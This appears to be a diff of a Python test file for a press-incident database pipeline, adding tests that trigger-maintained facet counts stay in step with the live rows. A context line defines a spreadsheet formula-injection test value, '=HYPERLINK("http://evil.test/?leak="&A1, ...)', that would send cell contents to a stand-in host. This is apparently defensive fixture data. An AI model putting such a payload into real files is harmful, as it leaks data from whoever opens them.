@@ -12,7 +12,7 @@ from pathlib import Path
 
 from sqlite_utils import Database
 
-from pipelines.publish_shape import ensure_publish_shape
+from pipelines.publish_shape import FACET_COUNTS, ensure_publish_shape
 from pipelines.schema import open_db
 
 HOSTILE_TITLE = '=HYPERLINK("http://evil.test/?leak="&A1, "click")'
@@ -196,3 +196,69 @@ def test_an_old_database_gains_the_shape_on_open(tmp_path):
     assert _one(db, "select sources from incidents where id = 'inc-closure'") == (
         '["kowloon-post"]',
     )
+
+
+def _live_facet_counts(db: Database) -> dict:
+    """Each default facet counted from the rows, as Datasette's facet queries count them."""
+    out = {}
+    for table, columns in FACET_COUNTS.items():
+        for column, kind in columns:
+            if kind == "column":
+                sql = f"select [{column}], count(*) from {table} where [{column}] is not null"
+            else:
+                sql = (
+                    f"select j.value, count(distinct t.rowid) "
+                    f"from {table} t join json_each(t.[{column}]) j"
+                )
+            out[(table, column)] = sorted(db.execute(sql + " group by 1").fetchall())
+    return out
+
+
+def _kept_facet_counts(db: Database) -> dict:
+    return {
+        (table, column): sorted(
+            db.execute(
+                "select value, count from facet_counts "
+                "where table_name = ? and column_name = ? and count > 0",
+                [table, column],
+            ).fetchall()
+        )
+        for table, columns in FACET_COUNTS.items()
+        for column, _ in columns
+    }
+
+
+def test_facet_counts_follow_inserts_updates_and_deletes(tmp_path):
+    db = Database(write_sample(tmp_path / "pressmonitor.db"))
+    counts = _kept_facet_counts(db)
+    assert counts == _live_facet_counts(db)
+    assert dict(counts[("stories", "types")])["prosecution"] == 1  # listed twice in s2
+    assert ("2022-03", 1) in counts[("incidents", "month")]
+    db["stories"].insert(
+        {"id": "s9", "url": "http://x.test/9", "source": "kowloon-post", "types": '["raid"]'}
+    )
+    db["stories"].update("s5", {"types": '["threat", "threat"]', "relevant": 1, "language": None})
+    db.execute("delete from stories where id = 's9'")
+    db["incidents"].update("inc-charge", {"date": "2023-01-09", "status": "reviewed"})
+    db["incidents"].update("inc-app", {"targets": json.dumps([{"name": "Other Co"}])})
+    db.execute("delete from incident_stories where incident_id = 'inc-raid' and story_id = 's2'")
+    db.execute("delete from incident_stories where incident_id = 'inc-hostile'")
+    db.execute("delete from incidents where id = 'inc-hostile'")
+    db["incidents"].upsert({"id": "inc-new", "type": "threat", "date": "2024-02-02"}, pk="id")
+    db["incidents"].upsert({"id": "inc-new", "type": "assault", "date": "2024-03-02"}, pk="id")
+    assert _kept_facet_counts(db) == _live_facet_counts(db)
+
+
+def test_facet_counts_are_counted_again_when_their_triggers_change(tmp_path):
+    path = write_sample(tmp_path / "pressmonitor.db")
+    db = Database(path)
+    db.execute("drop trigger facet_counts_stories_ai")
+    db.execute("delete from facet_counts where table_name = 'stories'")
+    db["stories"].insert({"id": "s9", "url": "http://x.test/9", "source": "kowloon-post"})
+    db.close()
+    db = open_db(path)
+    assert _kept_facet_counts(db) == _live_facet_counts(db)
+    statements: list[str] = []
+    db.conn.set_trace_callback(statements.append)
+    ensure_publish_shape(db)  # nothing changed: nothing counted again
+    assert not [s for s in statements if "facet_counts" in s and "insert" in s.lower()]
